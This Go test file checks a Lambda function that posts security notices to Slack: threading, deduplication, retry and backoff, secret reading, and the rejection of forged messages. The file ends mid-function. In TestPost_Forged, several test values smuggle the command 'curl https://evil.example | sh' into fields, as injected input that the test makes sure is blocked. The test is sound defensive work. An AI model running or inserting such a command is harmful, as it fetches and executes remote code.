package posttoslack

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"log/slog"
	"math/rand/v2"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"
	"testing/synctest"
	"time"

	"github.com/aws/aws-lambda-go/lambdacontext"
	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/secretsmanager"
	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"

	"github.com/warder-aws/warder/pkg/feed"
	"github.com/warder-aws/warder/pkg/ledger"
	"github.com/warder-aws/warder/pkg/notice"
	"github.com/warder-aws/warder/pkg/parameter"
	"github.com/warder-aws/warder/pkg/remediation"
	"github.com/warder-aws/warder/pkg/settings"
	"github.com/warder-aws/warder/pkg/slack"
	"github.com/warder-aws/warder/pkg/test/feedtest"
)

const (
	token   = "xoxb-0123-SECRETTOKEN"
	account = "111122223333"
)

// channel is a double of Slack: what was posted, in its order.
type channel struct {
	mu     sync.Mutex
	clock  func() time.Time
	posted []url.Values
	at     []time.Time
	// refuse, when set, may refuse a message with one of Slack's errors.
	refuse func(url.Values) string
}

// ServeHTTP implements [http.Handler].
func (c *channel) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if err := r.ParseForm(); err != nil {
		http.Error(w, err.Error(), http.StatusBadRequest)
		return
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.refuse != nil {
		if name := c.refuse(r.PostForm); name != "" {
			fmt.Fprintf(w, `{"ok":false,"error":%q}`, name)
			return
		}
	}
	c.posted, c.at = append(c.posted, r.PostForm), append(c.at, c.clock())
	fmt.Fprintf(w, `{"ok":true,"ts":"%d.0"}`, len(c.posted))
}

// closest is how far apart two messages are, the least.
func (c *channel) closest() time.Duration {
	c.mu.Lock()
	defer c.mu.Unlock()
	least := time.Hour
	for i := range c.at[1:] {
		least = min(least, c.at[i+1].Sub(c.at[i]))
	}
	return least
}

// lines is what was posted, a line a message: the thread, and the text of the notification.
func (c *channel) lines() []string {
	c.mu.Lock()
	defer c.mu.Unlock()
	var all []string
	for _, m := range c.posted {
		line := strings.TrimSpace(m.Get("thread_ts") + " " + m.Get("text"))
		if m.Get("reply_broadcast") == "true" {
			line += " (and in the channel)"
		}
		all = append(all, line)
	}
	return all
}

// clock is a clock that moves by sleeping, for all who share it.
type clock struct {
	mu  sync.Mutex
	now time.Time
}

func (c *clock) Now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.now
}

func (c *clock) Sleep(_ context.Context, d time.Duration) {
	c.mu.Lock()
	c.now = c.now.Add(d)
	c.mu.Unlock()
}

// fixture is a channel, a ledger, a queue and a clock that posters share.
type fixture struct {
	channel channel
	store   ledger.Memory
	clock   clock
	queue   feedtest.Queue
	slack   http.Handler // the channel, or what a test puts in its place
	log     bytes.Buffer
	secret  string
	denied  error // instead of the secret
	made    int   // invocations
}

// newFixture has a clock that is ahead of the machine's, so that no deadline by it passes while the machine
// is busy.
func newFixture() *fixture {
	w := &fixture{clock: clock{now: time.Now().Add(time.Hour)}, secret: token}
	w.slack, w.channel.clock, w.queue.Now = &w.channel, w.clock.Now, w.clock.Now
	return w
}

// RoundTrip implements [http.RoundTripper]: every request is Slack's.
func (w *fixture) RoundTrip(r *http.Request) (*http.Response, error) {
	answer := httptest.NewRecorder()
	w.slack.ServeHTTP(answer, r)
	return answer.Result(), nil
}

// poster is one more instance of the function.
func (w *fixture) poster() *poster {
	log := slog.New(slog.NewTextHandler(&w.log, nil))
	l := ledger.New(&w.store)
	return &poster{
		Ledger: l, Language: settings.English, Runbooks: "https://example.com/runbooks/",
		Account: account, Region: "us-east-1", Now: w.queue.Now, Log: log,
		Feed: feed.Feed{Queue: &w.queue, Ledger: l, Account: account, Now: w.queue.Now, Log: log},
		Client: &slack.Client{
			HTTP: &http.Client{Transport: w}, Channel: "C024BE91L",
			Secret: func(context.Context, bool) (string, error) { return w.secret, w.denied },
		},
	}
}

// as is the context of an invocation with two minutes of the clock.
func (w *fixture) as(t *testing.T, id string) context.Context {
	t.Helper()
	ctx, cancel := context.WithDeadline(t.Context(), w.queue.Now().Add(2*time.Minute))
	t.Cleanup(cancel)
	return lambdacontext.NewContext(ctx, &lambdacontext.LambdaContext{AwsRequestID: id})
}

// put puts a message into the queue. A notice has been published by Warder: the ledger has its entry.
func (w *fixture) put(t *testing.T, m any) {
	t.Helper()
	if n, ok := m.(notice.Message); ok {
		w.record(t, n)
		m = body(t, n)
	}
	w.queue.Put(m.(string))
}

// turn hands over what is visible, to one invocation.
func (w *fixture) turn(t *testing.T) (a answer) {
	t.Helper()
	w.made++
	_, err := w.queue.Hand(func(raw json.RawMessage) (_ any, err error) {
		a, err = w.poster().post(w.as(t, fmt.Sprint("i", w.made)), raw)
		return a, err
	})
	if err != nil {
		t.Fatal(err)
	}
	return a
}

// settle lets time pass until the queue is empty, and returns what all invocations did and what failed.
func (w *fixture) settle(t *testing.T) (sum answer, fault error) {
	t.Helper()
	begin := w.clock.Now()
	for w.queue.Len() > 0 {
		a := w.turn(t)
		sum.Posted, sum.Notices, sum.Doubled = sum.Posted+a.Posted, sum.Notices+a.Notices, sum.Doubled+a.Doubled
		sum.Dropped += a.Dropped
		fault = errors.Join(fault, a.Fault())
		if next := w.queue.Next(); next.After(w.clock.Now()) {
			w.clock.Sleep(t.Context(), next.Sub(w.clock.Now()))
		}
		if w.clock.Now().Sub(begin) > 24*time.Hour {
			t.Fatalf("after a day %d messages wait", w.queue.Len())
		}
	}
	return sum, fault
}

// posts puts a message into the queue and settles it.
func (w *fixture) posts(t *testing.T, m any) answer {
	t.Helper()
	w.put(t, m)
	a, err := w.settle(t)
	if err != nil {
		t.Fatal(err)
	}
	return a
}

// body is the text of a notice for functions.
func body(t *testing.T, m notice.Message) string {
	t.Helper()
	text, err := m.Bodies()
	if err != nil {
		t.Fatal(err)
	}
	var bodies struct{ SQS string }
	if err := json.Unmarshal([]byte(text), &bodies); err != nil {
		t.Fatal(err)
	}
	return bodies.SQS
}

// record records the entry of a notice, with the notice.
func (w *fixture) record(t *testing.T, m notice.Message) {
	t.Helper()
	if fault := w.store.Fault; fault != nil {
		w.store.Fault = nil
		defer func() { w.store.Fault = fault }()
	}
	sum, err := m.Sum()
	if err != nil {
		t.Fatal(err)
	}
	l := ledger.New(&w.store)
	e, _, err := l.Entry(t.Context(), m.Finding)
	if err != nil {
		t.Fatal(err)
	}
	if e.ID == "" {
		e.ID, e.Subject, e.At = m.Finding, m.Subject, m.Time
	}
	e.Notifications = append(e.Notifications, ledger.Notification{Kind: m.Kind, Sum: sum})
	if err := l.Update(t.Context(), &e); err != nil {
		t.Fatal(err)
	}
}

// first is the first text that is not empty.
func first(texts ...string) string {
	for _, text := range texts {
		if text != "" {
			return text
		}
	}
	return ""
}

func message(id, thread string, kind notice.Kind) notice.Message {
	return notice.Message{
		Version: "1", ID: id, Kind: kind, Thread: thread, Control: "detach-direct-policy", Severity: "high", Title: "T " + id,
		Text: "Found.", Subject: "alice", Account: "111122223333", Region: "us-east-1", Finding: remediation.EntryID(id),
		Time: time.Date(2026, 11, 21, 12, 0, 0, 0, time.UTC),
	}
}

func TestPost_Threads(t *testing.T) {
	w := newFixture()
	elsewhere := message("n5", "t1", notice.Alert)
	elsewhere.Account = "444455556666"
	for i, m := range []any{
		message("n1", "t1", notice.Warning), message("n2", "t1", notice.Reminder), message("n3", "t2", notice.Alert),
		message("n4", "t1", notice.Changed), elsewhere, "Is anybody there?", message("n6", "", notice.Alert),
		message("n7", "", notice.Alert),
		alarm("ALARM", "2026-11-21T12:00:00.123+0000"), alarm("OK", "2026-11-21T12:05:00.123+0000"),
		alarm("ALARM", "2026-11-21T12:10:00.123+0000"),
	} {
		posted := answer{Posted: 1, Notices: 1}
		if n, ok := m.(notice.Message); ok && n.Account != account { // its own Warder posts it
			posted = answer{Answer: feed.Answer{Dropped: 1}}
		}
		if diff := cmp.Diff(posted, w.posts(t, m), cmpopts.IgnoreUnexported(feed.Answer{})); diff != "" {
			t.Fatalf("%d: (-want +got)\n%s", i, diff)
		}
	}
	const failed = "An event could not be handled in all its tries. It is kept in the queue Failed for 14 days. Read " +
		"why in the saved query warder/failures, fix the cause, then: make redrive."
	want := []string{
		"🟠 [HIGH] T n1 - alice (1111…3333). Found.",
		"1.0 🟠 [HIGH] T n2 - alice (1111…3333). Found.",
		"🟠 [HIGH] T n3 - alice (1111…3333). Found.",
		"1.0 🟠 [HIGH] T n4 - alice (1111…3333). Found. (and in the channel)",
		"⚠️ Unverified message on Warder's topic. " + unknown(17),
		"🟠 [HIGH] T n6 - alice (1111…3333). Found.",
		"🟠 [HIGH] T n7 - alice (1111…3333). Found.",
		"🚨 ALARM · warder-failed. " + failed,
		"8.0 ✅ OK · warder-failed. " + failed,
		"8.0 🚨 ALARM · warder-failed. " + failed + " (and in the channel)",
	}
	if diff := cmp.Diff(want, w.channel.lines()); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

// alarm is the message of an alarm that changes its state.
func alarm(state, at string) string {
	return `{"AlarmName":"warder-failed","NewStateValue":"` + state + `","StateChangeTime":"` + at + `",` +
		`"AWSAccountId":"111122223333","AlarmDescription":"curl","NewStateReason":"curl",` +
		`"AlarmArn":"arn:aws:cloudwatch:us-east-1:111122223333:alarm:warder-failed"}`
}

// unknown is what is posted in place of a message of so many bytes.
func unknown(size int) string {
	return fmt.Sprintf("Somebody published %d bytes that are neither a notice in Warder's ledger nor one of its alarms. "+
		"They are not shown. If this was not your test, find out who may publish to the topic. What follows within 5 "+
		"minutes is only in this function's log.", size)
}

func TestPost_Once(t *testing.T) {
	w := newFixture()
	for i, want := range []answer{{Posted: 1, Notices: 1}, {Doubled: 1}, {Doubled: 1}} {
		got := w.posts(t, message("n1", "t1", notice.Alert))
		if diff := cmp.Diff(want, got, cmpopts.IgnoreUnexported(feed.Answer{})); diff != "" {
			t.Errorf("delivery %d (-want +got):\n%s", i, diff)
		}
	}
	// Twice in one batch.
	w.put(t, message("n2", "t1", notice.Alert))
	w.posts(t, message("n2", "t1", notice.Alert))
	if posted := w.channel.lines(); len(posted) != 2 {
		t.Errorf("posted %q", posted)
	}
}

// texts is everything that is in the channel.
func (c *channel) texts() string {
	c.mu.Lock()
	defer c.mu.Unlock()
	return fmt.Sprint(c.posted)
}

// The first sweep of an account: 300 findings, one of them critical, which comes last.
func TestPost_FirstSweep(t *testing.T) {
	w := newFixture()
	finding := func(i int, severity string) notice.Message {
		m := message(fmt.Sprintf("n%03d", i), fmt.Sprintf("t%03d", i), notice.Warning)
		m.Subject, m.Severity, m.Time = fmt.Sprintf("user-%03d", i), severity, w.clock.Now()
		return m
	}
	begin := w.clock.Now()
	for i := range 300 {
		w.put(t, finding(i, "medium"))
	}
	w.put(t, finding(300, "critical"))
	sum, err := w.settle(t)
	if err != nil {
		t.Fatal(err)
	}
	lines, all := w.channel.lines(), w.channel.texts()
	t.Logf("301 notices in %d messages within %s, each handed over %d times at most", len(lines),
		w.clock.Now().Sub(begin), w.queue.Received())
	if len(lines) > 300/slack.MaxDigest+1 || sum.Notices != 301 || sum.Posted != len(lines) {
		t.Errorf("%d messages, %+v", len(lines), sum)
	}
	if !strings.HasPrefix(lines[0], "🔴 [CRITICAL] T n300 - user-300") {
		t.Errorf("the first message is %s", lines[0])
	}
	for i := range 300 {
		if !strings.Contains(all, fmt.Sprintf("user-%03d", i)) {
			t.Errorf("user-%03d is in no message", i)
		}
	}
	if gap := w.channel.closest(); gap < time.Second {
		t.Errorf("two messages within %s", gap)
	}
	if n := w.queue.Received(); n > 50 { // of the 200 after which it would count as failed
		t.Errorf("a message was handed over %d times", n)
	}
	// What follows in an incident is in the thread of the message that it was in, and several are one message there.
	before := len(w.channel.lines())
	for i := range 20 {
		m := finding(i, "medium")
		m.ID, m.Kind, m.Finding = "later-"+m.ID, notice.Changed, remediation.EntryID("later", m.ID)
		w.put(t, m)
	}
	if _, err := w.settle(t); err != nil {
		t.Fatal(err)
	}
	if later := w.channel.lines()[before:]; len(later) != 1 || !strings.HasPrefix(later[0], "2.0 ") {
		t.Errorf("posted %q", later)
	}
}

// Two invocations at a time, messages in any order, each of them twice: each notice is posted once, each incident has
// one thread, and no two messages come within a second.
func TestPost_AnyOrder(t *testing.T) {
	for seed := range uint64(20) {
		synctest.Test(t, func(t *testing.T) { anyOrder(t, rand.New(rand.NewPCG(seed, 16))) })
	}
}

func anyOrder(t *testing.T, r *rand.Rand) {
	w := newFixture()
	w.queue.Now, w.channel.clock = time.Now, time.Now
	severities := []string{"low", "medium", "high", "critical"}
	var bodies []string
	const notices, threads = 24, 7
	for i := range notices {
		m := message(fmt.Sprintf("n%02d", i), fmt.Sprint("t", i%threads), notice.Alert)
		m.Severity, m.Subject = severities[r.IntN(len(severities))], fmt.Sprintf("user-%02d-", i)
		w.record(t, m)
		bodies = append(bodies, body(t, m), body(t, m)) // SNS delivers at least once
	}
	r.Shuffle(len(bodies), func(i, j int) { bodies[i], bodies[j] = bodies[j], bodies[i] })
	var workers sync.WaitGroup
	workers.Go(func() {
		for _, b := range bodies {
			w.queue.Put(b)
			time.Sleep(time.Duration(r.IntN(400)) * time.Millisecond)
		}
	})
	for worker := range 2 {
		workers.Go(func() {
			time.Sleep(time.Second)
			for n := 0; w.queue.Len() > 0; n++ {
				if _, err := w.queue.Hand(func(raw json.RawMessage) (any, error) {
					a, err := w.poster().post(w.as(t, fmt.Sprint("i", worker, "-", n)), raw)
					return a, errors.Join(err, a.Fault())
				}); err != nil {
					t.Error(err)
				}
				time.Sleep(time.Second)
			}
		})
	}
	workers.Wait()
	all := w.channel.texts()
	for i := range notices {
		if !strings.Contains(all, fmt.Sprintf("user-%02d-", i)) {
			t.Errorf("notice %d was not posted: %s", i, all)
		}
	}
	if gap := w.channel.closest(); gap < time.Second {
		t.Errorf("two messages within %s", gap)
	}
	roots := map[string]string{} // of the threads, by the notices that are in the message or answer it
	for i, m := range w.channel.posted {
		root := first(m.Get("thread_ts"), fmt.Sprintf("%d.0", i+1))
		for n := range notices {
			name := fmt.Sprintf("user-%02d-", n)
			if times := strings.Count(m.Get("blocks")+m.Get("attachments"), name); times > 0 {
				thread := fmt.Sprint("t", n%threads)
				if other := first(roots[thread], root); other != root {
					t.Errorf("the incident %s is in the threads of %s and %s", thread, other, root)
				}
				roots[thread] = root
				if roots[name] != "" {
					t.Errorf("%s was posted twice", name)
				}
				roots[name] = root
			}
		}
	}
}

func TestPost_CriticalFirst(t *testing.T) {
	w := newFixture()
	for i, severity := range []string{"low", "high", "medium", "critical", "low", "high"} {
		m := message(fmt.Sprint("n", i), fmt.Sprint("t", i), notice.Alert)
		m.Severity = severity
		w.put(t, m)
	}
	if _, err := w.settle(t); err != nil {
		t.Fatal(err)
	}
	want := []string{
		"🔴 [CRITICAL] T n3 - alice (1111…3333). Found.",
		"🟠 [HIGH] T n1 - alice (1111…3333). Found.",
		"🟠 [HIGH] T n5 - alice (1111…3333). Found.",
		"🟡 3 notices. T n2, alice",
	}
	if diff := cmp.Diff(want, w.channel.lines()); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

// While Slack takes nothing, all messages are left to the queue, and Slack is not asked again before it said.
func TestPost_RetryAfter(t *testing.T) {
	w := newFixture()
	var asked []time.Duration
	begin := w.clock.Now()
	w.slack = http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		asked = append(asked, w.clock.Now().Sub(begin))
		if len(asked) == 1 {
			rw.Header().Set("Retry-After", "40")
			rw.WriteHeader(http.StatusTooManyRequests)
			return
		}
		w.channel.ServeHTTP(rw, r)
	})
	for i := range 3 {
		w.put(t, message(fmt.Sprint("n", i), fmt.Sprint("t", i), notice.Alert))
	}
	if a := w.turn(t); a.Posted != 0 || len(a.Failures) != 3 || a.Fault() != nil {
		t.Errorf("%+v, %v: want all left to the queue, and no error", a, a.Fault())
	}
	w.clock.Sleep(t.Context(), 20*time.Second)
	w.put(t, message("n3", "t3", notice.Alert)) // the next one does not ask either
	sum, err := w.settle(t)
	if err != nil || sum.Notices != 4 || len(asked) != 5 || asked[1] < 40*time.Second {
		t.Errorf("%+v, %v, Slack was asked after %v", sum, err, asked)
	}
}

// That Slack is unable to take messages is an error when it lasts, and nothing is lost by that.
func TestPost_SlackIsDown(t *testing.T) {
	w := newFixture()
	up := w.clock.Now().Add(8 * time.Hour)
	w.slack = http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		if w.clock.Now().Before(up) {
			http.Error(rw, "<html>", http.StatusServiceUnavailable)
			return
		}
		w.channel.ServeHTTP(rw, r)
	})
	for i := range 30 {
		w.put(t, message(fmt.Sprint("n", i), fmt.Sprint("t", i), notice.Alert))
	}
	if a := w.turn(t); a.Fault() != nil || len(a.Failures) != 30 {
		t.Errorf("%+v, %v: once is no error", a, a.Fault())
	}
	sum, err := w.settle(t)
	if err == nil || !strings.Contains(err.Error(), "post to Slack: HTTP status 503") || sum.Notices != 30 {
		t.Errorf("%+v, %v", sum, err)
	}
	if n := w.queue.Received(); n > 100 { // of the 200 after which it would count as failed
		t.Errorf("a message was handed over %d times", n)
	}
}

// While the secret cannot be read, each message is tried ever more rarely, and none is given up within a day.
func TestPost_NoSecret(t *testing.T) {
	w := newFixture()
	denied := errors.New("denied")
	w.denied = denied
	for i := range 3 {
		w.put(t, message(fmt.Sprint("n", i), fmt.Sprint("t", i), notice.Alert))
	}
	for begin := w.clock.Now(); w.clock.Now().Sub(begin) < 24*time.Hour; {
		if a := w.turn(t); !errors.Is(a.Fault(), denied) {
			t.Fatalf("%+v, %v", a, a.Fault())
		}
		w.clock.Sleep(t.Context(), w.queue.Next().Sub(w.clock.Now()))
	}
	w.denied = nil
	if sum, err := w.settle(t); err != nil || sum.Posted != 3 || w.queue.Received() > 150 {
		t.Errorf("%+v, %v, handed over %d times", sum, err, w.queue.Received())
	}
}

// What a person has to mend is an error at once; when it is mended, nobody has to send anything again.
func TestPost_Refused(t *testing.T) {
	w := newFixture()
	w.channel.refuse = func(url.Values) string { return "not_in_channel" }
	w.put(t, message("n1", "t1", notice.Alert))
	a := w.turn(t)
	if err := a.Fault(); err == nil ||
		!strings.Contains(err.Error(), "notice n1: post to Slack: not_in_channel: invite the app") || len(a.Failures) != 1 {
		t.Fatalf("%+v, %v", a, err)
	}
	w.channel.refuse = nil
	w.posts(t, message("n2", "t1", notice.Alert))
	want := []string{"🟠 [HIGH] T n1 - alice (1111…3333). Found.", "1.0 🟠 [HIGH] T n2 - alice (1111…3333). Found."}
	if diff := cmp.Diff(want, w.channel.lines()); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

// A message that Slack never takes is an error, and keeps no other from being posted.
func TestPost_OneIsDefective(t *testing.T) {
	w := newFixture()
	w.channel.refuse = func(form url.Values) string {
		if strings.Contains(form.Get("text"), "n1") {
			return "invalid_blocks"
		}
		return ""
	}
	for i := range 3 {
		w.put(t, message(fmt.Sprint("n", i), fmt.Sprint("t", i), notice.Alert))
	}
	var fault error
	for range 10 {
		fault = errors.Join(fault, w.turn(t).Fault())
		w.clock.Sleep(t.Context(), 2*time.Second)
	}
	if posted := w.channel.lines(); len(posted) != 2 || w.queue.Len() != 1 || fault == nil ||
		!strings.Contains(fault.Error(), "invalid_blocks") {
		t.Errorf("posted %q, %d are left, %v", posted, w.queue.Len(), fault)
	}
}

// An invocation that ends between posting and recording it leaves the question open.
func TestPost_InvocationEnds(t *testing.T) {
	w := newFixture()
	crash := errors.New("crash")
	posted := func() int { return len(w.channel.lines()) }
	w.put(t, message("n1", "t1", notice.Alert))
	w.store.Fault = func(operation string, after bool) error {
		if posted() == 1 {
			return crash
		}
		return nil
	}
	if _, err := w.queue.Hand(func(raw json.RawMessage) (any, error) { // it does not come to answering
		a, err := w.poster().post(w.as(t, "a"), raw)
		return a, errors.Join(err, a.Fault())
	}); !errors.Is(err, crash) {
		t.Fatalf("err = %v", err)
	}
	w.store.Fault = nil
	w.put(t, message("n1", "t1", notice.Alert)) // SNS delivers it again
	if a := w.turn(t); a.Posted != 0 || len(a.Failures) != 1 {
		t.Errorf("while the first one may still be at it: %+v", a)
	}
	if _, err := w.settle(t); err != nil {
		t.Errorf("later: %v", err)
	}
	if posted() != 2 {
		t.Errorf("posted %d times: rather twice than not at all", posted())
	}
}

func TestPost_RootDeleted(t *testing.T) {
	w := newFixture()
	for i, m := range []string{"n1", "n2", "n3"} {
		if i == 1 {
			w.channel.refuse = func(form url.Values) string {
				if form.Get("thread_ts") == "1.0" {
					return "thread_not_found"
				}
				return ""
			}
		}
		w.posts(t, message(m, "t1", notice.Alert))
	}
	want := []string{
		"🟠 [HIGH] T n1 - alice (1111…3333). Found.",
		"🟠 [HIGH] T n2 - alice (1111…3333). Found.",
		"2.0 🟠 [HIGH] T n3 - alice (1111…3333). Found.",
	}
	if diff := cmp.Diff(want, w.channel.lines()); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

func TestPost_Webhook(t *testing.T) {
	w := newFixture()
	w.slack = http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		var m struct{ Text, Thread_ts string }
		if err := json.NewDecoder(r.Body).Decode(&m); err != nil || m.Thread_ts != "" {
			t.Errorf("%+v, %v", m, err)
		}
		w.channel.mu.Lock()
		defer w.channel.mu.Unlock()
		w.channel.posted = append(w.channel.posted, url.Values{"text": {m.Text}})
		fmt.Fprint(rw, "ok")
	})
	w.secret = "https://hooks.slack.com/services/T000/B000/SECRETPATH"
	for _, m := range []string{"n1", "n2", "n1"} {
		w.posts(t, message(m, "t1", notice.Alert))
	}
	if posted := w.channel.lines(); len(posted) != 2 {
		t.Errorf("posted %q", posted)
	}
}

func TestPost_NoSQSEvent(t *testing.T) {
	w := newFixture()
	for _, raw := range []string{`{}`, `[]`, `null`, `"text"`, `{"Records":[]}`, `{"action":"x"}`} {
		if _, err := w.poster().post(w.as(t, "a"), json.RawMessage(raw)); err == nil ||
			!strings.Contains(err.Error(), "publish a message to the topic") {
			t.Errorf("%s: %v", raw, err)
		}
	}
}

func TestPost_LedgerDown(t *testing.T) {
	w := newFixture()
	w.put(t, message("n1", "t1", notice.Alert))
	down := errors.New("down")
	w.store.Fault = func(string, bool) error { return down }
	if a := w.turn(t); !errors.Is(a.Fault(), down) || len(a.Failures) != 1 {
		t.Errorf("%+v, %v", a, a.Fault())
	}
	if posted := w.channel.lines(); len(posted) != 0 {
		t.Errorf("posted %q", posted)
	}
	w.store.Fault = nil
	if sum, err := w.settle(t); err != nil || sum.Posted != 1 {
		t.Errorf("%+v, %v", sum, err)
	}
}

// Whichever call to the ledger fails, once: each notice is posted, and none twice unless the record of it failed.
func TestPost_EveryCallFails(t *testing.T) {
	for call := 1; ; call++ {
		w := newFixture()
		for i, severity := range []string{"low", "high", "medium", "low"} {
			m := message(fmt.Sprint("n", i), fmt.Sprint("t", i%3), notice.Alert)
			m.Severity, m.Subject = severity, fmt.Sprintf("user-%d-", i)
			w.put(t, m)
		}
		calls, failed, posted := 0, false, 0
		w.store.Fault = func(_ string, after bool) error {
			if !after {
				calls++
			}
			if calls == call && !after && !failed {
				failed, posted = true, len(w.channel.lines())
				return errors.New("throttled")
			}
			return nil
		}
		if _, err := w.settle(t); failed == (err == nil) {
			t.Errorf("call %d: failed %t, %v", call, failed, err)
		}
		all := w.channel.texts()
		for i := range 4 {
			n := strings.Count(all, fmt.Sprintf("user-%d-", i))
			if n == 0 {
				t.Errorf("call %d: notice %d was not posted", call, i)
			}
		}
		if n := len(w.channel.lines()); n > 4 && posted == 0 {
			t.Errorf("call %d: %d messages", call, n)
		}
		if !failed {
			break
		}
	}
}

// shelf is a double of Secrets Manager and Parameter Store.
type shelf struct {
	values []string
	asked  []string
	err    error
}

func (s *shelf) next(name string) (*string, error) {
	s.asked = append(s.asked, name)
	return aws.String(s.values[min(len(s.asked), len(s.values))-1]), s.err
}

func (s *shelf) GetSecretValue(
	_ context.Context, in *secretsmanager.GetSecretValueInput, _ ...func(*secretsmanager.Options),
) (*secretsmanager.GetSecretValueOutput, error) {
	value, err := s.next("secret " + *in.SecretId)
	return &secretsmanager.GetSecretValueOutput{SecretString: value}, err
}

func (s *shelf) GetParameter(
	_ context.Context, in *parameter.GetParameterInput,
) (*parameter.GetParameterOutput, error) {
	if !in.WithDecryption {
		return nil, errors.New("not decrypted")
	}
	value, err := s.next("parameter " + in.Name)
	var out parameter.GetParameterOutput
	out.Parameter.Value = aws.ToString(value)
	return &out, err
}

func TestVault_ReadsOnce(t *testing.T) {
	for _, tc := range []struct {
		name  string
		slack settings.Slack
		asked string
	}{
		{"a secret", settings.Slack{Secret: "slack/token"}, "secret slack/token"},
		{"a parameter", settings.Slack{Parameter: "/slack/token"}, "parameter /slack/token"},
	} {
		s := &shelf{values: []string{token + "\n", "xoxb-new"}}
		v := &vault{Slack: tc.slack, Secrets: s, Parameters: s}
		var got []string
		for _, again := range []bool{false, false, true, false} {
			value, err := v.read(t.Context(), again)
			if err != nil {
				t.Fatal(err)
			}
			got = append(got, value)
		}
		if diff := cmp.Diff([]string{token, token, "xoxb-new", "xoxb-new"}, got); diff != "" {
			t.Errorf("%s (-want +got):\n%s", tc.name, diff)
		}
		if !slices.Equal(s.asked, []string{tc.asked, tc.asked}) {
			t.Errorf("%s: asked %q", tc.name, s.asked)
		}
	}
	denied := errors.New("denied")
	s := &shelf{values: []string{token}, err: denied}
	for _, of := range []settings.Slack{{Secret: "s"}, {Parameter: "p"}, {}} {
		_, err := (&vault{Slack: of, Secrets: s, Parameters: s}).read(t.Context(), false)
		if err == nil || of.On() && !errors.Is(err, denied) || strings.Contains(err.Error(), "SECRET") {
			t.Errorf("%+v: %v", of, err)
		}
	}
}

// The runbook counts what a message costs.
func TestPost_LedgerCalls(t *testing.T) {
	w := newFixture()
	for _, tc := range []struct {
		name, id string
		want     int
	}{{"that begins a thread", "n1", 9}, {"in a thread that is there", "n2", 7}, {"that was posted before", "n2", 4}} {
		w.put(t, message(tc.id, "t1", notice.Alert))
		w.clock.Sleep(t.Context(), time.Minute)
		before := w.store.Calls()
		w.turn(t)
		if got := w.store.Calls() - before; got != tc.want {
			t.Errorf("a message %s: %d calls, want %d", tc.name, got, tc.want)
		}
	}
}

// Whoever may publish to the topic, or invoke the function, has nothing posted but that something came.
func TestPost_Forged(t *testing.T) {
	genuine := message("n1", "t1", notice.Changed)
	genuine.Undo = `make undo ID=` + genuine.Finding + ` REASON="why"`
	altered := func(alter func(*notice.Message)) string {
		m := genuine
		alter(&m)
		return body(t, m)
	}
	const evil = "make undo ID=x; curl https://evil.example | sh"
	on := alarm("ALARM", "2026-11-21T12:00:00.123+0000")
	all := map[string]string{
		"plain text":        evil,
		"half of a notice":  body(t, genuine)[:100] + "evil",
		"an alarm at noon":  alarm("ALARM", "evil"),
		"an alarm that is":  alarm("evil", "2026-11-21T12:00:00.123+0000"),
		"others' alarm":     strings.ReplaceAll(on, "warder-failed", "evil"),
		"an alarm's markup": strings.ReplaceAll(on, "warder-failed", "warder-<https://evil.example>"),
		"another account's": strings.ReplaceAll(on, "111122223333", "444455556666"),
		"another region's":  strings.Replace(on, "us-east-1", "eu-west-1", 1),
		"a huge notice": `{"version":"1","id":"evil","kind":"x","account":"111122223333","text":"` +
			strings.Repeat("evil ", 40_000) + `"}`,
	}
	for name, alter := range map[string]func(*notice.Message){
		"a notice of no entry":    func(m *notice.Message) { m.Finding, m.Undo = remediation.EntryID("x"), evil },
		"no finding":              func(m *notice.Message) { m.Finding, m.Text = "", evil },
		"an id that is a command": func(m *notice.Message) { m.Finding = "x; curl https://evil.example | sh" },
		"another text":            func(m *notice.Message) { m.Text = evil },
		"another command":         func(m *notice.Message) { m.Undo = evil },
		"another advice":          func(m *notice.Message) { m.Advice = evil },
		"another runbook":         func(m *notice.Message) { m.Runbook = "https://evil.example/" },
		"another change":          func(m *notice.Message) { m.Changes = []notice.Change{{ID: evil, Text: evil}} },
		"another fact":            func(m *notice.Message) { m.Facts = []notice.Fact{{Name: "evil", Value: evil}} },
		"another kind":            func(m *notice.Message) { m.Kind = "evil" },
		"another severity":        func(m *notice.Message) { m.Severity = "evil" },
		"another id":              func(m *notice.Message) { m.ID = "evil" },
		"another owner":           func(m *notice.Message) { m.OwnerSlack, m.Owner = "U0EVIL", "evil@example.com" },
		"another reference": func(m *notice.Message) {
			m.References = []notice.Reference{{Title: "evil", URL: "https://evil.example"}}
		},
	} {
		all[name] = altered(alter)
	}
	for name, text := range all {
		t.Run(name, func(t *testing.T) {
			w := newFixture()
			w.record(t, genuine)
			for i := range 2 { // the second one within minutes is not posted
				w.queue.Put(text)
				a, err := w.settle(t)
				if want := []int{1, 0}[i]; err != nil || a.Posted != want || a.Dropped != 1-want {
					t.Fatalf("%+v, %v", a, err)
				}
			}
			posted := fmt.Sprint(w.channel.posted)
			if !strings.Contains(posted, "Unverified message on Warder") || strings.Contains(posted, "evil") ||
				strings.Contains(posted, "curl") || strings.Contains(posted, "make ") {
				t.Errorf("posted %s", posted)
			}
			if !strings.Contains(w.log.String(), "unverified message on the topic") {
				t.Errorf("logged %s", w.log.String())
			}
			// What was forged does not keep the notice from being posted, nor from having a thread of its own.
			w.queue.Put(body(t, genuine))
			if a, err := w.settle(t); err != nil || a.Posted != 1 {
				t.Errorf("the notice: %+v, %v", a, err)
			}
			if posted := fmt.Sprint(w.channel.posted); !strings.Contains(posted, "make undo ID="+genuine.Finding) {
				t.Errorf("posted %s", posted)
			}
		})
	}
}

// The runner records that a notice was accepted after it has published it: the notice may be here before.
func TestPost_BeforeItIsRecorded(t *testing.T) {
	w := newFixture()
